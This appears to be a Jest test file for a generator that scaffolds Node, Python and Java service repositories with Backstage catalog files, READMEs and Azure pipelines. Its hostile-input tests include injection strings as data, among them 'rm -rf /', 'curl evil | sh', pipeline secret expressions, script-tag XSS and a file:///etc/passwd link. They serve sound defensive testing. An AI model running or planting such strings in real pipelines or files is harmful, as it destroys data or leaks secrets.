import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { parse, parseAllDocuments } from 'yaml';
import { parseDescriptors } from '../../src/domain/catalog/descriptor-parser';
import { validateDescriptor } from '../../src/domain/catalog/descriptor-validation';
import { STACKS, type Stack } from '../../src/domain/pipelines/pipelines.types';
import type { RepoRequest } from '../../src/domain/repos/repo-request';
import { generateSkeleton } from '../../src/domain/repos/skeleton/generate-skeleton';
import type { SkeletonContext, SkeletonFile } from '../../src/domain/repos/skeleton/skeleton.types';
import { DomainError } from '../../src/domain/domain-error';
import { requireTool } from '../helpers/required-tools';

const request = (overrides: Partial<RepoRequest> = {}): RepoRequest => ({
  name: 'payments-api',
  project: 'Payments',
  stack: 'node',
  ownerTeam: 'team-payments',
  description: 'Card payments API',
  environments: ['dev', 'staging', 'prod'],
  requestedBy: { id: 'aad-1', name: 'Ada Lovelace' },
  ...overrides,
});

const context = (overrides: Partial<SkeletonContext['owner']> = {}): SkeletonContext => ({
  owner: {
    team: 'team-payments',
    displayName: 'Payments Team',
    email: 'payments@contoso.com',
    teamsChannelUrl: 'https://teams.microsoft.com/l/channel/19%3aabc%40thread.tacv2/Payments',
    onCallRotation: 'payments-primary',
    ...overrides,
  },
  org: 'contoso',
  links: {
    repoUrl: 'https://dev.azure.com/contoso/Payments/_git/payments-api',
    pipelineUrl: 'https://dev.azure.com/contoso/Payments/_build?definitionId=7',
    catalogUrl: 'https://portal.contoso.com/catalog/default/component/payments-api',
  },
  pipeline: { registry: { serviceConnection: 'acr-prod', name: 'contoso.azurecr.io' } },
});

const file = (files: SkeletonFile[], path: string): string => {
  const f = files.find((x) => x.path === path);
  if (!f) throw new Error(`no ${path} in ${files.map((x) => x.path).join(', ')}`);
  return f.content;
};

const tempDirs: string[] = [];
afterAll(() => tempDirs.forEach((d) => rmSync(d, { recursive: true, force: true })));

function writeTree(files: SkeletonFile[]): string {
  const dir = mkdtempSync(join(tmpdir(), 'skeleton-'));
  tempDirs.push(dir);
  for (const f of files) {
    mkdirSync(dirname(join(dir, f.path)), { recursive: true });
    writeFileSync(join(dir, f.path), f.content);
  }
  return dir;
}

function run(command: string, args: string[], cwd: string) {
  const result = spawnSync(command, args, { cwd, encoding: 'utf8', timeout: 60_000, env: { ...process.env, NODE_OPTIONS: '', NODE_ENV: 'test' } });
  return { status: result.status, output: `${result.stdout ?? ''}${result.stderr ?? ''}${result.error ? String(result.error) : ''}` };
}


/** Python's own parsers read pom.xml (XML) and pyproject.toml (TOML): no hand-rolled check. */
const pythonReads = (script: string, path: string): unknown => {
  requireTool('python3', "reading pom.xml and pyproject.toml with Python's own parsers");
  const result = spawnSync('python3', ['-c', script, path], { encoding: 'utf8' });
  if (result.status !== 0) throw new Error(result.stderr);
  return JSON.parse(result.stdout);
};
const readPom = (path: string) =>
  pythonReads(
    `import json, sys, xml.etree.ElementTree as E
ns = {'m': 'http://maven.apache.org/POM/4.0.0'}
r = E.parse(sys.argv[1]).getroot()
print(json.dumps({'artifactId': r.find('m:artifactId', ns).text, 'groupId': r.find('m:groupId', ns).text, 'description': r.find('m:description', ns).text,
  'dependencies': [d.find('m:artifactId', ns).text for d in r.findall('m:dependencies/m:dependency', ns)]}))`,
    path,
  ) as { artifactId: string; groupId: string; description: string; dependencies: string[] };
const readToml = (path: string) => pythonReads('import json, sys, tomllib\nprint(json.dumps(tomllib.load(open(sys.argv[1], "rb"))))', path) as { project: { name: string; description: string } };

const STACK_FILES: Record<Stack, string[]> = {
  'java-spring-boot': [
    'pom.xml',
    'src/main/java/com/contoso/paymentsapi/Application.java',
    'src/main/java/com/contoso/paymentsapi/HealthController.java',
    'src/test/java/com/contoso/paymentsapi/HealthControllerTest.java',
    'src/main/resources/application.yaml',
  ],
  node: ['package.json', 'package-lock.json', 'src/server.js', 'test/server.test.js', '.nvmrc'],
  python: ['pyproject.toml', 'src/payments_api/__init__.py', 'src/payments_api/app.py', 'tests/__init__.py', 'tests/test_app.py'],
};
const COMMON_FILES = ['README.md', 'catalog-info.yaml', 'azure-pipelines.yml', '.gitignore', '.dockerignore', 'CODEOWNERS', 'Dockerfile'];

describe.each(STACKS)('generateSkeleton (%s): the common files', (stack) => {
  const files = generateSkeleton(request({ stack }), context());

  it('has the stack files, its test, a Dockerfile and the shared files, nothing else', () => {
    expect(files.map((f) => f.path).sort()).toEqual([...STACK_FILES[stack], ...COMMON_FILES].sort());
  });

  it('is deterministic', () => {
    expect(generateSkeleton(request({ stack }), context())).toEqual(files);
  });

  it('catalog-info.yaml: a valid Backstage Component owned by the team, with the portal annotations', async () => {
    const text = file(files, 'catalog-info.yaml');
    const descriptor = parse(text);
    expect(await validateDescriptor(descriptor)).toBeUndefined();
    expect(descriptor).toEqual({
      apiVersion: 'backstage.io/v1alpha1',
      kind: 'Component',
      metadata: {
        name: 'payments-api',
        description: 'Card payments API',
        tags: expect.any(Array),
        annotations: {
          'dev.azure.com/project-repo': 'Payments/payments-api',
          'dev.azure.com/build-definition': 'payments-api',
          'idp.dev/teams-channel-url': 'https://teams.microsoft.com/l/channel/19%3aabc%40thread.tacv2/Payments',
          'idp.dev/email': 'payments@contoso.com',
          'idp.dev/oncall-rotation': 'payments-primary',
        },
        links: [
          { url: 'https://dev.azure.com/contoso/Payments/_git/payments-api', title: 'Repository', type: 'repository' },
          { url: 'https://dev.azure.com/contoso/Payments/_build?definitionId=7', title: 'Pipeline', type: 'pipeline' },
        ],
      },
      spec: { type: 'service', lifecycle: 'experimental', owner: 'group:default/team-payments' },
    });
  });

  it('catalog-info.yaml: the portal\'s own catalog reads the owner, repository, pipeline and contacts from it', async () => {
    const parsed = await parseDescriptors(file(files, 'catalog-info.yaml'), 'azure-devops:Payments/payments-api');
    expect(parsed.problems).toEqual([]);
    expect(parsed.entities).toHaveLength(1);
    expect(parsed.entities[0]).toMatchObject({
      ref: 'component:default/payments-api',
      owner: 'group:default/team-payments',
      lifecycle: 'experimental',
      source: { repository: { project: 'Payments', name: 'payments-api' }, pipelines: ['payments-api'] },
      contacts: { email: 'payments@contoso.com' },
      onCall: { rotation: 'payments-primary' },
    });
  });

  it('README.md names the owner, contacts, on-call and links', () => {
    const readme = file(files, 'README.md');
    expect(readme).toMatch(/^# payments\\-api$/m);
    expect(readme).toContain('- **Team:** Payments Team (catalog group `team-payments`)');
    expect(readme).toContain('[payments@contoso\\.com](<mailto:payments@contoso.com>)');
    expect(readme).toContain('[open the channel](<https://teams.microsoft.com/l/channel/19%3aabc%40thread.tacv2/Payments>)');
    expect(readme).toContain('- **On call:** payments\\-primary');
    expect(readme).toContain('[Repository](<https://dev.azure.com/contoso/Payments/_git/payments-api>)');
    expect(readme).toContain('[Pipeline](<https://dev.azure.com/contoso/Payments/_build?definitionId=7>)');
    expect(readme).toContain('[Catalog entry](<https://portal.contoso.com/catalog/default/component/payments-api>)');
    expect(readme).toContain('| prod | `payments-api-prod` | `vg-payments-api-prod` |');
  });

  it('CODEOWNERS names the owner team; azure-pipelines.yml is the golden path for the stack', () => {
    expect(file(files, 'CODEOWNERS')).toMatch(/^\* @contoso\/team-payments$/m);
    const pipeline = parse(file(files, 'azure-pipelines.yml'));
    expect(pipeline.stages.map((s: { stage: string }) => s.stage)).toEqual(['Build', 'Scan', 'Containerise', 'Deploy_dev', 'Deploy_staging', 'Deploy_prod']);
    expect(file(files, 'azure-pipelines.yml')).toContain(`(${stack})`);
  });

  it('leaves out what the owner does not have', () => {
    const bare = generateSkeleton(request({ stack }), { ...context({ email: undefined, teamsChannelUrl: undefined, onCallRotation: undefined }), links: { repoUrl: 'https://x.example/repo' } });
    const descriptor = parse(file(bare, 'catalog-info.yaml'));
    expect(Object.keys(descriptor.metadata.annotations)).toEqual(['dev.azure.com/project-repo', 'dev.azure.com/build-definition']);
    expect(descriptor.metadata.links).toHaveLength(1);
    expect(file(bare, 'README.md')).not.toMatch(/Email|Teams channel|On call|Pipeline\]|Catalog entry/);
  });
});

describe('generateSkeleton (node): runs', () => {
  const files = generateSkeleton(request({ stack: 'node' }), context());

  it('package.json: node --test, the CI JUnit script, the description as JSON', () => {
    const manifest = JSON.parse(file(files, 'package.json'));
    expect(manifest).toMatchObject({ name: 'payments-api', private: true, description: 'Card payments API', scripts: { test: 'node --test', start: 'node src/server.js' } });
    expect(manifest.scripts['test:ci']).toContain('--test-reporter=junit --test-reporter-destination=test-results/junit.xml');
    expect(file(files, '.nvmrc')).toBe('22\n');
  });

  it('its tests pass with node --test, npm ci accepts its lockfile, and test:ci writes JUnit XML', () => {
    const dir = writeTree(files);
    const test = run(process.execPath, ['--test'], dir);
    expect({ status: test.status, output: test.output }).toEqual({ status: 0, output: expect.stringMatching(/# pass 2/) });
    const ci = run('npm', ['ci', '--offline', '--no-audit', '--no-fund', '--ignore-scripts'], dir);
    expect({ status: ci.status, output: ci.output }).toEqual({ status: 0, output: expect.any(String) });
    const junit = run('npm', ['run', 'test:ci'], dir);
    expect({ status: junit.status, output: junit.output }).toEqual({ status: 0, output: expect.any(String) });
    expect(readFileSync(join(dir, 'test-results/junit.xml'), 'utf8')).toMatch(/<testsuites[\s>]/);
  });
});

describe('generateSkeleton (python): runs', () => {
  it('its tests pass with python3 -m unittest, and pyproject.toml is valid TOML', () => {
    requireTool('python3', "running the python skeleton's tests");
    const files = generateSkeleton(request({ stack: 'python' }), context());
    const dir = writeTree(files);
    const test = run('python3', ['-m', 'unittest', '-v'], dir);
    expect({ status: test.status, output: test.output }).toEqual({ status: 0, output: expect.stringMatching(/Ran 2 tests[\s\S]*OK/) });
    expect(readToml(join(dir, 'pyproject.toml')).project).toMatchObject({ name: 'payments-api', description: 'Card payments API' });
  });

  it('a service named like a stdlib module gets a package that does not hide it', () => {
    requireTool('python3', "running the python skeleton's tests");
    const files = generateSkeleton(request({ stack: 'python', name: 'http' }), context());
    expect(files.map((f) => f.path)).toContain('src/http_service/app.py');
    expect(file(files, 'Dockerfile')).toContain('CMD ["python","-m","http_service.app"]');
    const test = run('python3', ['-m', 'unittest'], writeTree(files));
    expect({ status: test.status, output: test.output }).toEqual({ status: 0, output: expect.stringMatching(/OK/) });
  });
});

describe('generateSkeleton (java-spring-boot): well-formed', () => {
  const files = generateSkeleton(request({ stack: 'java-spring-boot' }), context());

  it('pom.xml is XML with the web and test starters', () => {
    const pom = readPom(join(writeTree(files), 'pom.xml'));
    expect(pom).toEqual({
      artifactId: 'payments-api',
      groupId: 'com.contoso',
      description: 'Card payments API',
      dependencies: ['spring-boot-starter-web', 'spring-boot-starter-test'],
    });
  });

  it('has a HealthController and its MockMvc test for GET /healthz; application.yaml names the app', () => {
    expect(file(files, 'src/main/java/com/contoso/paymentsapi/HealthController.java')).toContain('@GetMapping("/healthz")');
    const test = file(files, 'src/test/java/com/contoso/paymentsapi/HealthControllerTest.java');
    expect(test).toContain('@WebMvcTest(HealthController.class)');
    expect(test).toContain('@Test');
    expect(parse(file(files, 'src/main/resources/application.yaml'))).toEqual({ spring: { application: { name: 'payments-api' } }, server: { port: '${PORT:8080}' } });
  });

  // No Maven repository here: compile against stubs with Spring's and JUnit's signatures, which
  // proves the sources are valid Java that use the API as declared (not that Spring runs them).
  it('the sources compile (javac, against API stubs)', () => {
    requireTool('javac', 'compiling the java skeleton');
    const dir = writeTree([...files, ...JAVA_STUBS]);
    const sources = [...files, ...JAVA_STUBS].filter((f) => f.path.endsWith('.java')).map((f) => f.path);
    const result = run('javac', ['-d', 'out', ...sources], dir);
    expect({ status: result.status, output: result.output }).toEqual({ status: 0, output: '' });
    expect(existsSync(join(dir, 'out/com/contoso/paymentsapi/HealthControllerTest.class'))).toBe(true);
  });

  it('Java identifiers survive keywords, digits and upper case', () => {
    const paths = generateSkeleton(request({ stack: 'java-spring-boot', name: 'Class.2-API' }), { ...context(), org: '9lives' }).map((f) => f.path);
    expect(paths).toContain('src/main/java/com/_9lives/class2api/Application.java');
    const keyword = generateSkeleton(request({ stack: 'java-spring-boot', name: 'int' }), context()).map((f) => f.path);
    expect(keyword).toContain('src/main/java/com/contoso/_int/Application.java');
  });
});

/** A line starting like this would be markup: heading, quote, list, rule, table, HTML, code. */
const MARKUP_START = /^( {4}| {0,3}([#>*+=|<-]|\d+[.)]|```|~~~))/;

/** True when the text holds a markup character not escaped by a backslash (or as an entity). */
function unescapedMarkup(text: string): boolean {
  for (let i = 0; i < text.length; i++) {
    if (text[i] === '\\') i++;
    else if ('[]`<*_'.includes(text[i]!)) return true;
  }
  return false;
}

describe('generateSkeleton: hostile input', () => {
  const HOSTILE = [
    'line one\nline two',
    'key: value',
    '# not a comment',
    '${{ variables.secret }}',
    '$(System.AccessToken)',
    "it's",
    'say "hi"',
    '- script: rm -rf /',
    '&anchor value',
    '*anchor',
    '---',
    'a\n---\nkind: Group',
    'x\n- script: curl evil | sh\n===',
    '{ injected: true }',
    '[1, 2]',
    '!!js/function "f"',
    '<script>alert(1)</script>',
    '](javascript:alert(1)) <!--',
    '```\ncode\n```',
    '    indented code',
    '| a | b |',
    '\\ backslash',
    'tab\tand "quote" and \'single\'',
  ];

  it.each(STACKS.flatMap((stack) => HOSTILE.map((h) => [stack, h] as const)))('%s: %j round-trips as plain text and injects nothing', (stack, h) => {
    const files = generateSkeleton(
      request({ stack, description: h, requestedBy: { id: 'x', name: h } }),
      context({ displayName: h, onCallRotation: h }),
    );
    const trimmed = h.trim();

    // catalog-info.yaml: one document, the same keys as ever, the text back verbatim.
    const catalogText = file(files, 'catalog-info.yaml');
    expect(parseAllDocuments(catalogText)).toHaveLength(1);
    const catalog = parse(catalogText);
    expect(Object.keys(catalog)).toEqual(['apiVersion', 'kind', 'metadata', 'spec']);
    expect(Object.keys(catalog.metadata)).toEqual(['name', 'description', 'tags', 'annotations', 'links']);
    expect(catalog.metadata.description).toBe(trimmed);
    expect(catalog.metadata.annotations['idp.dev/oncall-rotation']).toBe(trimmed);
    expect(Object.keys(catalog.metadata.annotations)).toHaveLength(5);
    expect(catalog.spec).toEqual({ type: 'service', lifecycle: 'experimental', owner: 'group:default/team-payments' });

    // The pipeline never carries prose.
    const pipelineText = file(files, 'azure-pipelines.yml');
    expect(pipelineText).toBe(generateSkeleton(request({ stack }), context()).find((f) => f.path === 'azure-pipelines.yml')!.content);

    // README: line for line the baseline's structure; the prose lines hold escaped text only.
    const readme = file(files, 'README.md');
    const [head, rest] = readme.split('\n## Ownership\n');
    const [baseHead, baseRest] = file(generateSkeleton(request({ stack }), context()), 'README.md').split('\n## Ownership\n');
    expect(head!.split('\n').slice(0, 2)).toEqual(baseHead!.split('\n').slice(0, 2));
    for (const line of head!.split('\n').slice(2)) {
      expect(line).not.toMatch(MARKUP_START);
      expect(unescapedMarkup(line)).toBe(false);
    }
    const lines = rest!.split('\n');
    const baseLines = baseRest!.split('\n');
    expect(lines).toHaveLength(baseLines.length);
    lines.forEach((line, i) => {
      if (line === baseLines[i]) return;
      const prefix = /^- \*\*(Team|On call|Requested by):\*\* /.exec(baseLines[i]!)?.[0];
      expect(prefix && line.startsWith(prefix)).toBeTruthy();
      const prose = line.slice(prefix!.length).replace(/ \(catalog group `team-payments`\)$/, '');
      expect(unescapedMarkup(prose)).toBe(false);
    });
    expect(readme).not.toContain('<script');

    // CODEOWNERS holds validated names only.
    expect(file(files, 'CODEOWNERS')).not.toContain(trimmed);

    if (stack === 'node') expect(JSON.parse(file(files, 'package.json')).description).toBe(trimmed);
  });

  it('pom.xml and pyproject.toml carry hostile descriptions verbatim', () => {
    const description = HOSTILE.join('\n').replace(/\t/g, ' ').slice(0, 500).trim();
    const javaDir = writeTree(generateSkeleton(request({ stack: 'java-spring-boot', description }), context()));
    expect(readPom(join(javaDir, 'pom.xml')).description).toBe(description);
    const pyDir = writeTree(generateSkeleton(request({ stack: 'python', description }), context()));
    expect(readToml(join(pyDir, 'pyproject.toml')).project.description).toBe(description);
  });

  const refused = (fn: () => unknown, code: string) => {
    try {
      fn();
    } catch (e) {
      expect(e).toBeInstanceOf(DomainError);
      expect((e as DomainError).code).toBe(code);
      return;
    }
    throw new Error('accepted');
  };

  it.each(['x\ny', 'a: b', '#x', '${{ x }}', '$(x)', "o'k", '"q"', '- script: rm -rf /', '&a', '*a', '---', '../escape', 'a/b'])(
    'name or owner team %j is refused before anything is generated',
    (h) => {
      refused(() => generateSkeleton(request({ name: h }), context()), 'REPOS.INVALID_REQUEST');
      refused(() => generateSkeleton(request({ ownerTeam: h }), { ...context(), owner: { ...context().owner, team: h } }), 'REPOS.INVALID_REQUEST');
    },
  );

  it('refuses hostile projects, environments and stacks', () => {
    refused(() => generateSkeleton(request({ project: 'P\n- x' }), context()), 'REPOS.INVALID_REQUEST');
    refused(() => generateSkeleton(request({ project: '${{ x }}' }), context()), 'REPOS.INVALID_REQUEST');
    refused(() => generateSkeleton(request({ environments: ['prod'] }), context()), 'REPOS.INVALID_REQUEST');
    refused(() => generateSkeleton(request({ stack: 'ruby' as Stack }), context()), 'REPOS.INVALID_REQUEST');
  });

  it('refuses a context with unusable links, organisation or owner', () => {
    refused(() => generateSkeleton(request(), context({ teamsChannelUrl: 'javascript:alert(1)' })), 'REPOS.INVALID_SKELETON_CONTEXT');
    refused(() => generateSkeleton(request(), context({ teamsChannelUrl: 'http://teams.example/x' })), 'REPOS.INVALID_SKELETON_CONTEXT');
    refused(() => generateSkeleton(request(), context({ email: 'x\n@y' })), 'REPOS.INVALID_SKELETON_CONTEXT');
    refused(() => generateSkeleton(request(), context({ team: 'team-other' })), 'REPOS.INVALID_SKELETON_CONTEXT');
    refused(() => generateSkeleton(request(), { ...context(), org: 'contoso/x' }), 'REPOS.INVALID_SKELETON_CONTEXT');
    refused(() => generateSkeleton(request(), { ...context(), links: { repoUrl: 'file:///etc/passwd' } }), 'REPOS.INVALID_SKELETON_CONTEXT');
    refused(() => generateSkeleton(request(), { ...context(), pipeline: { registry: { serviceConnection: '$(x)', name: 'r.io' } } }), 'PIPELINES.INVALID_OPTIONS');
  });
});

/** Spring, Spring Test and JUnit types with the signatures the generated sources use. */
const stub = (pkg: string, source: string): SkeletonFile => {
  const name = /(?:class|interface|@interface)\s+(\w+)/.exec(source)![1]!;
  return { path: `stubs/${pkg.replace(/\./g, '/')}/${name}.java`, content: `package ${pkg};\n${source}\n` };
};
const JAVA_STUBS: SkeletonFile[] = [
  stub('org.springframework.boot', 'public class SpringApplication { public static Object run(Class<?> source, String... args) { return null; } }'),
  stub('org.springframework.boot.autoconfigure', 'public @interface SpringBootApplication {}'),
  stub('org.springframework.web.bind.annotation', 'public @interface RestController {}'),
  stub('org.springframework.web.bind.annotation', 'public @interface GetMapping { String[] value() default {}; }'),
  stub('org.springframework.beans.factory.annotation', 'public @interface Autowired {}'),
  stub('org.springframework.boot.test.autoconfigure.web.servlet', 'public @interface WebMvcTest { Class<?>[] value() default {}; }'),
  stub('org.junit.jupiter.api', 'public @interface Test {}'),
  stub('org.springframework.test.web.servlet', 'public interface RequestBuilder {}'),
  stub('org.springframework.test.web.servlet', 'public interface ResultMatcher {}'),
  stub('org.springframework.test.web.servlet', 'public interface ResultActions { ResultActions andExpect(ResultMatcher matcher) throws Exception; }'),
  stub('org.springframework.test.web.servlet', 'public class MockMvc { public ResultActions perform(RequestBuilder request) throws Exception { return null; } }'),
  stub('org.springframework.test.web.servlet.request', 'public class MockMvcRequestBuilders { public static org.springframework.test.web.servlet.RequestBuilder get(String uri, Object... vars) { return null; } }'),
  stub('org.springframework.test.web.servlet.result', 'public class StatusResultMatchers { public org.springframework.test.web.servlet.ResultMatcher isOk() { return null; } }'),
  stub('org.springframework.test.web.servlet.result', 'public class JsonPathResultMatchers { public org.springframework.test.web.servlet.ResultMatcher value(Object expected) { return null; } }'),
  stub(
    'org.springframework.test.web.servlet.result',
    'public class MockMvcResultMatchers { public static StatusResultMatchers status() { return null; } public static JsonPathResultMatchers jsonPath(String expression, Object... args) { return null; } }',
  ),
];

describe('tools the skeleton tests need', () => {
  it('a missing one fails the test with what it is for and how to install it, instead of skipping', () => {
    const missing = () => false;
    expect(() => requireTool('javac', 'compiling the java skeleton', missing)).toThrow('javac is required for compiling the java skeleton: apt-get install default-jdk-headless');
    expect(() => requireTool('python3', "running the python skeleton's tests", missing)).toThrow("python3 is required for running the python skeleton's tests: apt-get install python3");
    expect(() => requireTool('javac', 'compiling the java skeleton', () => true)).not.toThrow();
  });
});
